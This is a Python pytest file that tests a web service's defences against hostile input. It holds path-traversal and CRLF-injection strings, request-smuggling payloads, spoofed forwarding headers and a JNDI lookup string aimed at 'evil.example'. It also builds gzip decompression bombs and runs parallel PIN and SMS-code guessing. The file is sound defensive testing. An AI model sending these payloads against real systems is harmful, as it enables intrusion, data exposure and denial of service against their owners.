"""Paths, headers, bodies, floods and bombs: what a stranger can put on the wire.

Where a server's own parsing matters it is the real server, asked over a plain socket; where only
the application's does, it is asked in this process, every endpoint by its description.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import json
import logging
import socket
import threading
import tracemalloc
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import functions_framework
import msgspec
import pytest
from aiohttp import web

from common import log
from common.bootstrap import Services
from common.egress import Egress
from common.errors import InvalidInput, OdaiError, RateLimited, VendorRejected, VendorUnavailable
from common.loop import LoopThread
from common.settings import Settings
from common.web.edge import MAX_BODY_BYTES
from common.web.openapi import ENDPOINTS, Endpoint
from run.local.functions import FOLDER, function_names
from tests.run.serving import Server
from tests.trust.attacked import Target, targets
from tests.trust.test_attack_tokens import Production

EVIL = "evil.example"
CANARY = "canary-in-a-log-7391"
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
PARTS = {"Content-Type": "multipart/form-data; boundary=x"}
PART = b"--x\r\nContent-Disposition: form-data; name=email\r\n\r\n"


# --- on the wire --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The real server, at its most talkative."""
    running = Server(tmp_path_factory.mktemp("wire") / "data", ODAI_LOG_LEVEL="DEBUG")
    yield running
    assert running.stop() == 0


def _send(server: Server, sent: bytes) -> bytes:
    """Return all that comes back until the server closes, or says no more."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=50.0) as wire:
        wire.sendall(sent)
        wire.shutdown(socket.SHUT_WR)
        got = bytearray()
        while piece := wire.recv(65536):
            got += piece
        return bytes(got)


PATHS = [
    "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/app.py", "/static/..%2f..%2fapp.py",
    "/static/..%5c..%5capp.py", "/static/%252e%252e/app.py", "/static//etc/passwd",
    "/static/....//....//app.py", "/static/%c0%ae%c0%ae/app.py", "/static/.%00./app.py",
    "/..%2f..%2fetc/passwd", f"//{EVIL}/%2f..", f"//{EVIL}//", f"/\\{EVIL}/", "/chats/..%2f/turns",
    "/chats/%2e%2e/turns", "/chats/a%00b/turns", "/chats/a%0d%0aSet-Cookie:%20x=1/turns",
    "/chats//turns", "/chats/" + "a" * 3900 + "/turns", "/chats/__id__/turns", "/%ff%fe%fd",
    "/memories/..%2f..%2fusers%2fada", "/memories/%00", "/memories/.", "/memories/%2e",
    "/memories/__name__", "/memories/" + "%F0%9F%92%A9" * 300, "/schedules/..%2fmemories",
    "/oauth_google/accounts/..%2f..%2fbob", "/oauth_google/accounts/%0d%0aX-Smuggled:1",
    "/plaid_link/accounts/%2e%2e%2f%2e%2e", "/history?after=%00", "/history?after=..%2f..",
    "/history/search?q=%00&after=__x__", "/chats/c/turns?before=%0d%0aX-Smuggled:1",
    "/chats/c/turns?limit=%D9%A3", "/audit?limit=" + "9" * 3900, "/usage?days=1e9",
    "/usage?timezone=..%2f..%2f..%2fetc%2fpasswd", "/usage?timezone=%00", "/usage?timezone=America",
    "/oauth_google/callback?state=%0d%0aX-Smuggled:1&error=%3Cscript%3Ealert(1)%3C/script%3E",
    f"/oauth_google/login?next=//{EVIL}", f"/oauth_google/login?provider=%0d%0a{EVIL}",
    "/account/%2e%2e/connector_worker", "/account/..;/due", "/" + "a" * 9000, "/?" + "b" * 9000,
    f"http://{EVIL}/chats", "*", "/;/", "/account;x=1/export", "/ACCOUNT/EXPORT", "/.git/config",
    "/.env", "/static/.env", "/console", "/__debug__/", "/server-status",
    "/chats/c%E2%80%A8d/turns",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
def test_no_path_breaks_out(path: str, server: Server) -> None:
    """Nothing outside the static files is served, no line is added, and nobody is sent away."""
    token = server.token("Ada")
    answer = _send(server, (
        f"GET {path} HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n"
        f"X-Forwarded-Host: {EVIL}\r\nAuthorization: Bearer {token}\r\n\r\n"
    ).encode())  # fmt: skip
    head, _, body = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    assert status < 500 and (status not in range(300, 400) or "next" in path or "state" in path)
    assert b"x-smuggled" not in head.lower() and b"\r\nset-cookie: x" not in head.lower()
    assert EVIL.encode() not in head and b"<script>alert" not in body
    assert b"root:" not in body and b"create_app" not in body


BROKEN = [
    b"GET / HTTP/1.1\r\nBad Header\x00: " + CANARY.encode() + b"\r\n\r\n",
    b"\x00\xff\x1b[31mGET " + CANARY.encode() + b"\n\n\r\n\r\n",
    b"GET /\x1b[31m" + CANARY.encode() + b"\nsecond HTTP/1.1\r\n\r\n",
    b"G\x1bET /" + CANARY.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /?token=" + CANARY.encode() + b"\x7f HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /?token=" + CANARY.encode() + b" HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + CANARY.encode() + b"\x01\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\ntraceparent: 00-\"},\x1b{\"" + CANARY.encode() + b"\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 9000 + b"\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X%d: 1\r\n" % n for n in range(200)) + b"\r\n",
    # one request or two: whoever stands before us must not read it otherwise
    b"POST /memories HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\nGET /audit HTTP/1.1\r\nHost: x\r\n\r\n",
    b"POST /memories HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
    b"POST /memories HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
    b"POST /memories HTTP/1.1\r\nHost: x\r\nContent-Length: +5\r\n\r\nabcde",
    b"POST /memories HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"POST /memories HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\n folded: line\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
]  # fmt: skip


def test_broken_requests_are_refused_and_quoted_nowhere(server: Server) -> None:
    """Each is a 4xx; the log has one JSON line for it, without a word of what was sent."""
    before = len(server.output)
    for sent in BROKEN:
        answer = _send(server, sent)
        status = int(answer.split()[1])  # 501: a coding of bodies that it does not know
        assert (400 <= status < 500 or status == 501) and answer.count(b"HTTP/1.1 ") == 1, sent
    told = "malformed request"
    server.until(told)
    lines = server.output[before:].splitlines()
    assert sum(told in line for line in lines) >= len(BROKEN) - 4
    for line in lines:
        assert json.loads(line)["severity"] and line.isascii() and "\x1b" not in line
    assert CANARY not in server.output


# --- headers ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder, made = tmp_path_factory.mktemp("input"), []

    def make(**environ: str) -> Services:
        environ = {"ODAI_DATA": str(folder), "ODAI_SMALL_MODEL": "off", **environ}
        made.append(Services(Settings.from_env(environ), LoopThread()))
        return made[-1]

    yield from targets(make)
    for each in made:
        each.close()


SPOOFED = {
    "Host": EVIL, "X-Forwarded-Host": EVIL, "X-Forwarded-Proto": "gopher", "X-Host": EVIL,
    "X-Forwarded-Server": EVIL, "Forwarded": f"for=127.0.0.1;host={EVIL};proto=http",
    "X-Original-URL": "/connector_worker", "X-Rewrite-URL": "/due", "X-Forwarded-For": "127.0.0.1",
    "X-HTTP-Method-Override": "DELETE", "X-Forwarded-Prefix": f"//{EVIL}", "Referer": EVIL,
    "X-Real-IP": "127.0.0.1", "Origin": f"https://{EVIL}", "X-Script-Name": f"//{EVIL}",
}  # fmt: skip


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda each: each.id)
def test_no_header_names_our_address(endpoint: Endpoint, target: Target) -> None:
    """Whatever the sender says we are called: no answer repeats it, and no other site is let in."""
    if endpoint.id == "delete_account":
        return
    path = endpoint.path.replace("{", "").replace("}", "")
    headers = {**target.headers(endpoint, "eve"), **SPOOFED}
    with target.client.open(path, method=endpoint.method, json={}, headers=headers) as answer:
        told = str(answer.headers).lower() + answer.get_data().decode("utf-8", "replace")
    assert EVIL not in told and "Access-Control-Allow-Origin" not in answer.headers
    assert answer.headers.get("X-Content-Type-Options") == "nosniff"
    assert answer.status_code != 500


def test_a_spoofed_address_buys_no_more_tries(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Behind Google's proxies it is what they appended that counts, not what the caller wrote."""
    before = Services._of_process
    for proxies, appended in (("1", "203.0.113.9"), ("2", "203.0.113.9, 35.191.0.1")):
        made = Production(tmp_path_factory.mktemp("proxies"), ODAI_PROXIES=proxies)
        statuses = [
            made.client.post(
                "/account/waitlist", json={"email": f"u{n}@example.com"},
                headers={"X-Forwarded-For": f"198.51.100.{n}, 10.0.0.{n}, {appended}"},
            ).status_code
            for n in range(14)
        ]  # fmt: skip
        assert statuses == [200] * 10 + [429] * 4
        made.services.close()
    Services._of_process = before


# --- bodies -------------------------------------------------------------------------------------

TAKING = [each for each in ENDPOINTS if each.takes and not each.form]
# No field is needed there: a body that cannot be read is as good as none.
LENIENT = frozenset((
    "post_plaid_link_create_link_token", "post_oauth_google_access_request",
    "post_twilio_voice_call", "post_follow_ups",
))  # fmt: skip
LARGE = b'{"text": "' + b"a" * (MAX_BODY_BYTES + 1) + b'"}'
BODIES: dict[str, tuple[bytes, dict[str, str]]] = {
    "nested": (b"[" * 200_000, JSON),
    "nested objects": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, JSON),
    "half a pair": (b'{"%s": "\\ud800"}', JSON),
    "no number": (b'{"%s": NaN}', JSON),
    "a number without end": (b'{"%s": ' + b"9" * 100_000 + b"}", JSON),
    "not UTF-8": (b'{"%s": "\xff\xfe"}', JSON),
    "UTF-16": ('{"%s": "x"}'.encode("utf-16"), JSON),
    "two values": (b'{"%s": "x"} {"%s": "y"}', JSON),
    "a list": (b'["%s"]', JSON),
    "nothing": (b"", JSON),
    "NUL": (b"\x00", JSON),
    "too large": (LARGE, JSON),
    "packed": (gzip.compress(b'{"%s": "' + b"a" * 10_000_000 + b'"}'),
               {**JSON, "Content-Encoding": "gzip"}),
    "packed twice": (gzip.compress(gzip.compress(b"{}")),
                     {**JSON, "Content-Encoding": "gzip, gzip"}),
    "said to be packed": (b"{}", {**JSON, "Content-Encoding": "br"}),
    "a form without end": (b"a=1&" * 250_000, FORM),
    "parts without end": ((PART + b"1\r\n") * 9_000, PARTS),
    "a part too large": (PART + b"a" * 900_000, PARTS),
}  # fmt: skip


@pytest.mark.parametrize("endpoint", TAKING, ids=lambda each: each.id)
def test_no_body_is_a_fault(endpoint: Endpoint, target: Target) -> None:
    """Odd encodings, depths and sizes are 4xx where a body is needed, and never a 500."""
    assert endpoint.takes
    field = msgspec.structs.fields(endpoint.takes)[0].encode_name.encode()
    path = endpoint.path.replace("{", "").replace("}", "")
    for name, (body, kind) in BODIES.items():
        headers = {**target.headers(endpoint, "mallory"), **kind}
        sent = body.replace(b"%s", field)
        answer = target.client.open(path, method=endpoint.method, data=sent, headers=headers)
        refused = answer.status_code in range(400, 500) and set(answer.json or {}) == {"error"}
        assert refused or (endpoint.id in LENIENT and answer.status_code < 300), (
            name, answer.status_code, answer.text[:200],
        )  # fmt: skip


@pytest.mark.parametrize("name", function_names())
def test_a_deployed_function_bounds_its_bodies_itself(name: str, target: Target) -> None:
    """Where nothing stands before it, a body that is too large is 413 or an earlier refusal."""
    app = functions_framework.create_app(name, str(FOLDER / name / "main.py"))
    described = [each for each in TAKING if each.function == name]
    with app.test_client() as client:
        for endpoint in described:
            path = endpoint.path.removeprefix(f"/{name}") or "/"
            headers = {**target.headers(endpoint, "mallory"), **JSON}
            answer = client.open(path, method=endpoint.method, data=LARGE, headers=headers)
            assert answer.status_code == 413, (endpoint.id, answer.status_code, answer.text[:200])
            assert set(answer.json or {}) == {"error"}


# --- many at once -------------------------------------------------------------------------------


def _at_once(work: Callable[[int], Any], count: int) -> list[Any]:
    """Run `work` in threads that all begin at the same moment."""
    gate = threading.Barrier(count)

    def run(n: int) -> Any:
        gate.wait(30.0)
        try:
            return work(n)
        except OdaiError as err:
            return type(err)

    with ThreadPoolExecutor(count) as pool:
        return list(pool.map(run, range(count)))


def test_limits_hold_for_many_at_once(services: Callable[..., Services]) -> None:
    """Forty at the same moment, on two processes: as many get through as may, and no more."""
    one, two = services(), services()

    def spend(n: int) -> str:
        made = (one, two)[n % 2]
        made.loop.run(made.limits.spend("try", "eve", most=7, seconds=3600.0))
        return "through"

    counted = Counter(_at_once(spend, 40))
    assert counted["through"] == 7 and set(counted) == {"through", RateLimited}


def test_guesses_are_few_however_many_at_once(services: Callable[..., Services]) -> None:
    """A PIN and a code sent by text cannot be guessed by asking for all of them together."""
    made = services()
    run, codes = made.loop.run, []

    async def send(_: str, text: str) -> None:
        codes.append(text)

    made.phones._send = send
    run(made.phones.start("ada", "+14155550100"))
    right = next(word.strip(".") for word in codes[-1].split() if word.strip(".").isdigit())
    wrong = [f"{n:06d}" for n in range(100_000, 100_030) if f"{n:06d}" != right]
    tried = _at_once(lambda n: run(made.phones.confirm("ada", wrong[n])), 24)
    assert not any(isinstance(each, str) for each in tried)
    with pytest.raises((InvalidInput, RateLimited)):  # guessed too often: the right one is dead
        run(made.phones.confirm("ada", right))
    run(made.pins.set("ada", "8316"))
    assert True not in _at_once(lambda n: run(made.pins.check("ada", f"{1000 + n}")), 12)
    with pytest.raises(RateLimited):
        run(made.pins.check("ada", "8316"))


def test_pages_are_limited_for_many_at_once(target: Target) -> None:
    """Thirty parallel requests to a limited page: ten join, the others wait."""

    def join(n: int) -> int:
        with target.app.test_client() as client:
            body = {"email": f"flood{n}@example.com"}
            where = {"REMOTE_ADDR": "203.0.113.77"}
            answer = client.post("/account/waitlist", json=body, environ_overrides=where)
            return answer.status_code

    assert Counter(_at_once(join, 30)) == {200: 10, 429: 20}


# --- bombs --------------------------------------------------------------------------------------

GIGABYTES = 10
_ZEROS = bytes(1 << 20)


def _packed(kind: str) -> Iterator[bytes]:
    """Yield ten gigabytes of zeros, packed to ten megabytes."""
    bits = {"gzip": 31, "deflate": 15, "raw": -15}[kind]
    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
    # After a full flush each megabyte is packed to the same bytes.
    yield packer.compress(_ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(_ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(GIGABYTES * 1024 - 1):
        yield again


@pytest.mark.parametrize(
    ("encoding", "kind"),
    [("gzip", "gzip"), ("deflate", "deflate"), ("deflate", "raw"), ("br", "gzip"),
     ("zstd", "gzip"), ("gzip, gzip", "gzip"), ("x-gzip", "gzip"), ("compress", "gzip")],
)  # fmt: skip
def test_no_bomb_unfolds(encoding: str, kind: str) -> None:
    """Ten megabytes that would be ten gigabytes: given up at the cap, in bounded memory."""

    async def bomb(request: web.BaseRequest) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Encoding": encoding})
        await response.prepare(request)
        for piece in _packed(kind):
            await response.write(piece)
        return response

    async def main() -> int:
        runner = web.ServerRunner(web.Server(bomb), shutdown_timeout=0.1)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        origin = f"http://127.0.0.1:{runner.addresses[0][1]}"
        egress = Egress(host_map={"bomb.example.com": origin})
        tracemalloc.start()
        try:
            with pytest.raises((VendorRejected, VendorUnavailable)):
                await egress.fetch_public(
                    "http://bomb.example.com/", max_bytes=1_000_000, timeout_s=20.0
                )
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
            await egress.close()
            await runner.cleanup()

    assert asyncio.run(main()) < 24_000_000


# --- logs ---------------------------------------------------------------------------------------

HOSTILE = [
    "one\ntwo", "one\r\ntwo", '"}\n{"severity": "ALERT"}', "\x1b[2J\x1b[31mred", "\x9b31mred",
    "a\u2028b\u2029c\x85d\x0be\x0cf", "half \ud800 a pair", "nul \x00", "\u202eright to left",
    "%s %d", "{0.__class__}", "${jndi:ldap://evil.example/a}", "\x08\x7f", "é" * 10,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_text_makes_a_second_line(text: str) -> None:
    """Message, fact, exception or name: one line of printable ASCII that reads back as it was."""
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)
    handler = logging.StreamHandler(stream)
    handler.setFormatter(log.JsonFormatter("project"))
    logger = logging.Logger("of-a-test")
    logger.addHandler(handler)
    logger.warning(text.replace("%", "%%"), extra={"fact": text, "of": {text: [text]}})
    try:
        raise InvalidInput(text)
    except InvalidInput:
        logger.exception("failed")
    try:
        raise ValueError(text)
    except ValueError:
        logger.exception("failed")
    written = stream.buffer.getvalue().decode("ascii")  # type: ignore[attr-defined]
    lines = written.splitlines()
    assert len(lines) == 3 and all(line.isprintable() for line in lines)
    first, ours, foreign = map(json.loads, lines)
    assert first["fact"] == text and ours["exception"]["message"] == text
    assert text not in json.dumps(foreign)  # what others say may quote what was sent


# Our own queues send ids alone, and those are what is logged.
STRANGERS = [each for each in ENDPOINTS if each.caller != "platform"]


@pytest.mark.parametrize("endpoint", STRANGERS, ids=lambda each: each.id)
def test_what_users_write_is_in_no_log(endpoint: Endpoint, target: Target) -> None:
    """Each field, parameter and header with a marker and line breaks: no line of ours has it."""
    if endpoint.id == "delete_account":
        return
    stream, root = io.StringIO(), logging.getLogger()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(log.JsonFormatter())
    before, root.level = root.level, logging.DEBUG
    root.addHandler(handler)
    try:
        for text in (f"{CANARY}\n\x1b[31m", f'"}}\r\n{{"{CANARY}": "', f"{CANARY}\ud800"[:-1]):
            _say(endpoint, target, text)
    finally:
        root.removeHandler(handler)
        root.level = before
    assert CANARY not in stream.getvalue()
    for line in stream.getvalue().splitlines():
        assert json.loads(line)


def _say(endpoint: Endpoint, target: Target, text: str) -> None:
    fields, asked = (
        [field.encode_name for field in msgspec.structs.fields(kind)] if kind else []
        for kind in (endpoint.takes, endpoint.query)
    )
    path = endpoint.path.replace("{", "").replace("}", CANARY)
    printable = "".join(c for c in text if c.isprintable())
    headers = {"User-Agent": printable, "traceparent": printable, "X-Request-Id": printable,
               "Cookie": f"odai={CANARY}", **target.headers(endpoint, "trudy")}  # fmt: skip
    body: dict[str, Any] = {"data" if endpoint.form else "json": dict.fromkeys(fields, text)}
    stranger = {"Authorization": f"Bearer {CANARY}"}
    query = dict.fromkeys(asked, text)
    for asking in ({"headers": headers, "query_string": query, **body}, {"headers": stranger}):
        with target.client.open(path, method=endpoint.method, **asking):
            pass
